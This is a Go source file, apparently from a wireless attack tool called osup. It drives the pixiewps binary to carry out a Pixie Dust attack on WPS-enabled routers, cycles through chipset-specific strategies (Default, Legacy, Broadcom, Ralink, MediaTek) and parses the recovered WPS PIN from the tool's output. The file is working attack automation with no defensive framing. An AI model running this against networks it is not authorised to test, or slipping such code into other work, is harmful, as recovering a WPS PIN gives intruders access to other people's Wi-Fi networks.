package pixie

import (
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"strings"
	"time"

	"github.com/pkg/errors"
	"go.uber.org/zap"
)

// StrategyTimeout bounds a single pixiewps invocation.
const StrategyTimeout = 60 * time.Second

// SolverError reports a Pixie Dust solver failure that isn't a single
// strategy's ordinary "no pin found" outcome — missing input data, or the
// run being cancelled out from under it.
type SolverError struct {
	Detail string
	Cause  error
}

func (e *SolverError) Error() string {
	if e.Cause != nil {
		return fmt.Sprintf("pixie dust solver: %s: %v", e.Detail, e.Cause)
	}
	return fmt.Sprintf("pixie dust solver: %s", e.Detail)
}

func (e *SolverError) Unwrap() error { return e.Cause }

// strategy names an ordered attempt at recovering the PIN: the base
// argument set plus whatever --ecos-ver override targets a specific
// chipset family known to implement the DH exchange differently.
type strategy struct {
	name  string
	extra []string
}

var strategies = []strategy{
	{name: "Default"},
	{name: "Legacy"},
	{name: "Broadcom", extra: []string{"--ecos-ver", "2"}},
	{name: "Ralink", extra: []string{"--ecos-ver", "1"}},
	{name: "MediaTek", extra: []string{"--ecos-ver", "3"}},
}

// Solver runs the pixiewps binary against a Data record, trying every known
// chipset strategy until one recovers a PIN.
type Solver struct {
	BinPath string
	Log     *zap.SugaredLogger
}

// NewSolver returns a Solver invoking the named pixiewps binary.
func NewSolver(binPath string, log *zap.SugaredLogger) *Solver {
	return &Solver{BinPath: binPath, Log: log}
}

// Run tries every strategy in turn, returning the first recovered PIN. An
// empty, ok=false result means every strategy ran to completion (or timed
// out) without a match. showCmd requests the rendered command line be
// logged before each attempt, matching the original tool's --pixie-cmd flag.
func (s *Solver) Run(ctx context.Context, data *Data, fullRange, showCmd bool) (string, bool, error) {
	if !data.GotBasic() {
		return "", false, &SolverError{Detail: "not enough data to run Pixie Dust attack"}
	}

	for i, st := range strategies {
		if err := ctx.Err(); err != nil {
			return "", false, &SolverError{Detail: "cancelled before all strategies ran", Cause: err}
		}

		advanced := st.name != "Legacy"
		args := data.Args(fullRange, advanced)
		args = append(args, st.extra...)

		if showCmd {
			s.Log.Infof("pixiewps strategy %s: %s %s", st.name, s.BinPath, strings.Join(args, " "))
		}
		s.Log.Infof("attempting %s Pixie Dust attack", st.name)

		pin, err := s.attempt(ctx, args)
		if err != nil {
			s.Log.Warnw("pixiewps strategy failed", "strategy", st.name, "err", err)
			continue
		}
		if pin != "" {
			s.Log.Infof("%s strategy successful", st.name)
			return pin, true, nil
		}
		if i == len(strategies)-1 {
			s.Log.Warn("all Pixie Dust strategies failed")
		}
	}

	return "", false, nil
}

func (s *Solver) attempt(ctx context.Context, args []string) (string, error) {
	cctx, cancel := context.WithTimeout(ctx, StrategyTimeout)
	defer cancel()

	cmd := exec.CommandContext(cctx, s.BinPath, args...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = &stderr

	err := cmd.Run()
	if cctx.Err() == context.DeadlineExceeded {
		return "", errors.New("timed out")
	}
	if err != nil {
		return "", errors.Wrap(err, strings.TrimSpace(stderr.String()))
	}

	return parsePin(stdout.String()), nil
}

// parsePin scans pixiewps output for the "[+] WPS pin: <value>" line and
// extracts the value, mapping pixiewps's literal "<empty>" marker to the
// two-character empty-PIN token the rest of osup uses.
func parsePin(output string) string {
	for _, line := range strings.Split(output, "\n") {
		if !strings.Contains(line, "[+]") || !strings.Contains(line, "WPS pin") {
			continue
		}
		idx := strings.LastIndex(line, ":")
		if idx < 0 {
			continue
		}
		pin := strings.TrimSpace(line[idx+1:])
		if pin == "<empty>" {
			return "''"
		}
		return pin
	}
	return ""
}
